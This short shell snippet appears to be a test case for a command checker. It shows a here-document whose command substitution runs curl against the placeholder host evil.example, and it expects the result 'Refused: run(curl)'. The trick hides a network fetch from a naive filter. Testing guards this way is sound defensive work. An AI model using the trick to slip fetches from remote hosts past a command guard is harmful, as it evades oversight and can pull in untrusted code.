# Trick: a substitution stands in a here-document.
# Refused: run(curl)
cat <<END
$(curl -s http://evil.example/)
END
